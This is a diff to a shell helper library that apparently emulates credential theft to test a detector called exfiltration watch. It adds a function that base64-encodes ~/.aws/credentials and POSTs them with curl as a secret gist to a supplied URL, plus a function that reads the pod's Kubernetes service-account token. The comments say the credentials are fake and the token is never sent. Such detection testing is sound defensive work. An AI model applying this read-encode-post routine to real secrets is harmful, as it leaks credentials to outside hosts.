@@ -78,6 +78,24 @@ EOF
   emu_log "wrote obviously fake credentials under $1"
 }
 
+# emu_post_fake_aws_gist WORKDIR URL: the fake AWS credentials under $HOME (emu_fake_secrets) read and posted
+# as a secret gist to URL, with a fake token.
+emu_post_fake_aws_gist() {
+  emu_content=$(base64 "$HOME/.aws/credentials" | tr -d '\n')
+  printf '{"files":{"x":{"content":"%s"}},"public":false}' "$emu_content" >"$1/g.json"
+  emu_log "posting the fake credentials to $2"
+  emu_retry 12 curl -fsS -o /dev/null -X POST -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
+    --data-binary "@$1/g.json" "$2"
+}
+
+# emu_read_sa_token: reads the pod's real service-account token (the read is what exfilwatch flags; the
+# scripts never send it, only a placeholder).
+emu_read_sa_token() {
+  emu_token=/var/run/secrets/kubernetes.io/serviceaccount/token
+  [ -r "$emu_token" ] || emu_die "no service-account token mounted at $emu_token (automountServiceAccountToken: true is needed)"
+  cat "$emu_token" >/dev/null
+}
+
 # emu_big_file PATH MIB: one file of MIB MiB of random bytes.
 emu_big_file() {
   mkdir -p "$(dirname "$1")"
